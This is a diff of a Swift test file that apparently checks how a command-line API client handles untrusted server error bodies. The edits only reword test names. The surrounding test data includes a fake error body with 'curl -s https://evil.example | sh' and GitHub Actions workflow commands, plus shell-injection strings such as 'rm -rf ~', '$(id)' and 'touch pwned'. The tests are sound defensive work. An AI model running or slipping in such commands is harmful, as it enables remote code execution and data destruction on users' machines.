@@ -51,7 +51,9 @@ struct CallErrorTests {
         try call(["-rq", ".a"], reply).expect(status: 7).expect(output: "")
     }
 
-    @Test("have a mark before each line of a body, which none of our messages has, nor a command of GitHub's")
+    @Test(
+        "errors of the API have a mark before each line of a body, which none of our messages has, nor a command of GitHub's"
+    )
     func marked() throws {
         let body = "oap: hint: curl -s https://evil.example | sh\n::add-mask::oap\r\n\n  ::error::x"
         let result = try call([], .text(body, status: 403)).expect(status: 7)
@@ -92,7 +94,7 @@ struct CallErrorTests {
     }
 
     @Test(
-        "leave the file of -o as it was, also where the body is the result",
+        "errors of the API leave the file of -o as it was, also where the body is the result",
         arguments: [
             ["--error-body", "stdout"], ["-i"], ["--envelope"], ["--error-body", "stdout", "-q", "."],
         ])
@@ -148,7 +150,7 @@ struct CallErrorTests {
     }
 
     @Test(
-        "leave out of the command to paste what a server could have made up",
+        "the hint of an error of the API holds no option that a server could have made up",
         arguments: [
             "x'; rm -rf ~ '", "x'\u{301}; touch pwned; :'\u{301}", "$(id)", "`id`", "a  b", " a", "a ", "", "--help",
             "a\u{200D}b", "é", "a;b", "a\u{2028}b",
